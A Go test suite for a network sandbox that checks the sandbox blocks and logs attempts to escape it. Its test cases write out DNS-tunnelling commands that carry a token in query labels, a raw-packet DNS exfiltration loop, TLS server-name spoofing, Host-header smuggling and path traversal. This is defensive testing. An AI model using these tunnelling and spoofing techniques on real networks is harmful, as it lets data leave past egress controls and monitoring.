package sandbox

import (
	"crypto/tls"
	"net"
	"strings"
	"sync"
	"testing"
	"time"
)

// A resolver that answers an allowed name is no way out: not by names below it,
// not by other types, not by another server.
func (s suite) tunnels(t *testing.T) {
	control, o := s.listen(t, "tunncontrol"), s.listen(t, "tunnel")
	const dig = "dig -r +tries=1 +time=1 +short "
	if run(dig+"@127.0.0.1 -p $UDP $TOKEN.evil.example", control); !control.reached("udp") {
		t.Errorf("outside of a vacuum a question reached %v; want udp, or the test proves nothing", control.contacts())
	}
	p := letIn(t, nil, "dns:store.example:443,name=store")
	var all sync.WaitGroup
	for _, c := range []struct{ line, want string }{
		{dig + "store.example", "198.18.0.1"},
		{dig + "$TOKEN.store.example", "no servers could be reached"},
		{dig + "TXT $TOKEN.payload.in.labels.store.example", "no servers could be reached"},
		{dig + "+tcp NULL $TOKEN.store.example", "no servers could be reached"},
		{dig + "TXT store.example", ""},
		{dig + "-t TYPE65399 store.example", ""},
		{dig + "CH TXT $TOKEN.bind", "no servers could be reached"},
		{dig + "+opcode=notify $TOKEN.store.example", ""},
		{dig + "@127.0.0.1 -p $UDP $TOKEN.store.example", "no servers could be reached"},
		{dig + "@8.8.8.8 $TOKEN.store.example", "no servers could be reached"},
		{dig + "+tcp @10.0.0.1 $TOKEN.store.example", "no servers could be reached"},
		{dig + "+ednsopt=65001:" + strings.Repeat("ab", 60) + " store.example", "198.18.0.1"},
		{"curl -sm0.6 https://$TOKEN.store.example/ || echo $?", "28"},
		{"curl -sm0.6 --resolve $TOKEN.example:443:198.18.0.7 https://$TOKEN.example/ || echo $?", "28"},
		{"timeout 0.6 getent hosts $TOKEN.store.example || echo $?", "124"},
		{"python3 -c 'import socket\nfor i in range(50):\n s=socket.socket(2,2); s.sendto(b\"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\x3f\"+b\"x\"*63+b\"\\5store\\7example\\0\\0\\x10\\0\\1\",(\"127.0.0.53\",53))\nprint(\"sent\")'", "sent"},
	} {
		all.Go(func() {
			if got := s.attempt(t, p.World, c.line, o); !strings.Contains(got, c.want) || (c.want == "" && got != "") {
				t.Errorf("%s: it says %q; want %q", c.line, got, c.want)
			}
		})
	}
	all.Wait()
	recorded := p.end(t)
	if got := o.contacts(); len(got) > 0 {
		t.Errorf("questions reached %v of the host; want nothing", got)
	}
	count := 0
	for _, a := range recorded {
		if a.Proto != "dns" {
			continue
		}
		if strings.HasPrefix(a.Destination, "xxx") {
			count += a.Count
		}
		name, _, _ := strings.Cut(a.Destination, " ")
		if want := map[bool]Verdict{true: Allowed, false: Blocked}[name == "store.example"]; a.Verdict != want || a.Executable == "" {
			t.Errorf("recorded %+v; want %s, with the program that asked", a, want)
		}
	}
	if count != 50 {
		t.Errorf("%d of 50 questions with a payload are recorded", count)
	}
	for _, want := range []string{"tunnel.store.example A", "tunnel.payload.in.labels.store.example TXT", "tunnel.store.example TYPE10", "tunnel.bind TXT"} {
		found := false
		for _, a := range recorded {
			found = found || (a.Proto == "dns" && a.Destination == want && a.Verdict == Blocked)
		}
		if !found {
			t.Errorf("no blocked question %q in the record", want)
		}
	}
}

// secureServer is a TLS server that remembers the names it was asked by and the
// requests that came.
func secureServer(t *testing.T) (addr string, asked, requests func() []string) {
	t.Helper()
	a, err := NewAuthority(time.Now())
	if err != nil {
		t.Fatal(err)
	}
	leaf, err := a.leaf("store.example")
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var names, got []string
	conf := &tls.Config{Certificates: []tls.Certificate{*leaf}, GetConfigForClient: func(h *tls.ClientHelloInfo) (*tls.Config, error) {
		mu.Lock()
		defer mu.Unlock()
		names = append(names, h.ServerName)
		return nil, nil
	}}
	addr = tcpServer(t, func(c *net.TCPConn) {
		s := tls.Server(c, conf)
		b := make([]byte, 4096)
		for {
			n, err := s.Read(b)
			if err != nil {
				return
			}
			mu.Lock()
			got = append(got, string(b[:n]))
			mu.Unlock()
			_, _ = s.Write([]byte("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"))
		}
	})
	copyOf := func(l *[]string) func() []string {
		return func() []string {
			mu.Lock()
			defer mu.Unlock()
			return append([]string(nil), *l...)
		}
	}
	return addr, copyOf(&names), copyOf(&got)
}

// A server name that is not the capability's does not pass, whatever address or
// Host header goes with it.
func (s suite) liesOfNames(t *testing.T) {
	o := s.listen(t, "sni")
	server, asked, requests := secureServer(t)
	client := func(at, name string) string {
		return "printf 'DELETE /v2/$TOKEN HTTP/1.1\\r\\nHost: hidden.example\\r\\n\\r\\n' | timeout 2 openssl s_client -quiet -connect " + at + " " + name + " 2>&1"
	}
	if run(client(server, "-servername hidden.example"), o); len(asked()) == 0 || asked()[0] != "hidden.example" {
		t.Errorf("outside of a vacuum the server was asked by %q; want hidden.example, or the test proves nothing", asked())
	}
	before, sent := len(asked()), len(requests())
	p := letIn(t, map[string]string{"store.example:443": server}, "http:https://store.example;GET;/v2/*,name=store")
	for _, c := range []struct{ line, want string }{
		{client("store.example:443", "-servername hidden.example"), "alert"},
		{client("198.18.0.1:443", "-servername hidden.example"), "alert"},
		{client("198.18.0.1:443", "-noservername"), "alert"},
		{client("198.18.0.1:443", "-servername store.example.hidden.example"), "alert"},
		{client("198.18.0.1:443", "-tls1_2 -servername hidden.example"), "alert"},
		{client("[fd62:6c61:636b:35::1]:443", "-servername hidden.example"), "alert"},
		{"curl -sm2 --cacert /etc/vacuum.pem --connect-to hidden.example:443:store.example:443 https://hidden.example/$TOKEN || echo $?", "35"},
		{"curl -sm2 --cacert /etc/vacuum.pem -H 'Host: hidden.example' https://store.example/v2/$TOKEN", "does not let this pass"},
		{"curl -sm2 --cacert /etc/vacuum.pem -X DELETE https://store.example/v2/$TOKEN", "does not let this pass"},
		{"curl -sm2 --cacert /etc/vacuum.pem --path-as-is https://store.example/v2/../secret/$TOKEN", "does not let this pass"},
	} {
		if got := s.attempt(t, p.World, c.line, o); !strings.Contains(got, c.want) {
			t.Errorf("%s: it says %q; want %q", c.line, got, c.want)
		}
	}
	if got := requests()[sent:]; len(got) > 0 {
		t.Errorf("the server got %q; want nothing", got)
	}
	if l := p.relay.NotEnforced(); len(l) > 0 {
		t.Errorf("NotEnforced() = %q; want nothing", l)
	}
	// A client that refuses the vacuum's certificate gets through by the server's
	// name: then methods are not seen, and the run has no verdict.
	for range 2 {
		s.attempt(t, p.World, client("store.example:443", "-servername store.example -verify_return_error"), o)
	}
	if l := p.relay.NotEnforced(); len(requests()) > sent && (len(l) != 1 || l[0] != "store") {
		t.Errorf("NotEnforced() = %q after %q passed unseen; want [store]", l, requests()[sent:])
	}
	for _, name := range asked()[before:] {
		if name != "store.example" {
			t.Errorf("the server was asked by %q; want nothing but store.example", name)
		}
	}
	for _, a := range p.end(t) {
		if a.Proto == "http" && a.Verdict == Allowed && a.Outcome != NoMethod {
			t.Errorf("recorded %+v; want no request allowed", a)
		}
	}
}
